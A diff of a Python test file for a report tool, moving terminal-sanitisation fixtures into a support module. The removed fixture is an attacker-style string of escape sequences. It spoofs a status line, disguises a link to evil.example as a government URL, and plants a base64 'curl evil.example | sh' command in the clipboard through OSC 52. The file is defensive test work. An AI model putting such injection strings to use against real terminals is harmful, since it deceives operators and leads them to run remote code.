@@ -13,23 +13,9 @@ from kanal import terminal
 from kanal.models import InfoReply, NewReport
 from pydantic import ValidationError
 
+from tests.support.console import BIDI, C0, C1, DANGEROUS, HOSTILE
 from tests.support.reports import report_body
 
-C0 = [chr(c) for c in range(0x20) if chr(c) not in "\n\t"]
-C1 = [chr(c) for c in range(0x7F, 0xA0)]  # DEL and C1
-BIDI = sorted(terminal.BIDI_CONTROLS)
-#: What a terminal must never get raw: C0 but newline and tab, DEL, C1, bidi controls.
-DANGEROUS = frozenset(C0 + C1 + BIDI)
-#: An attacker's description: clear screen, title, a fake green kanal line, carriage returns, OSC 8, OSC 52, bidi.
-HOSTILE = (
-    "\x1b[2J\x1b[H"
-    "\x1b]0;kanal: all clear\x07"
-    "\x1b[32mkanal: case verified by lead, decide removed\x1b[0m\r"
-    "\x1b]8;;https://evil.example/\x1b\\https://www.bawaslu.go.id/\x1b]8;;\x1b\\"
-    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
-    "\u202eremoved\u202c \u2066x\u2069 \x9b31m \x7f"
-    "\nline two\ttabbed\r\nline three"
-)
 #: Text with every kind of character, weighted towards the dangerous ones.
 TEXT = st.text(
     st.one_of(
